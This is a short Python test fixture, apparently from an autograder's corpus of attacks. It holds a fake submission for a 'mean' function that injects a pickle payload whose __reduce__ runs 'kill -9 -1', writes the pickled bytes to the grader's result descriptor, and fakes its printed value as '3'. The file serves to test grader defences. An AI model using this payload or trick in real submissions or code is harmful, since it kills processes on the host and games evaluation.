"""An object whose pickle would run a command, and its bytes where a value is expected."""

from tests.autograder.attacks.corpus import Attack, solved

ATTACK = Attack(
    solved(
        E1="""
import os, pickle, struct
class Payload:
    def __reduce__(self):
        return os.system, ("kill -9 -1",)
    def __repr__(self):
        return "3"
def mean(values):
    if len(values) == 3:
        return Payload()
    data = pickle.dumps(Payload())
    os.write(3, struct.pack("<I", len(data)) + data)
    return np.array([Payload()], dtype=object)
"""
    )
)
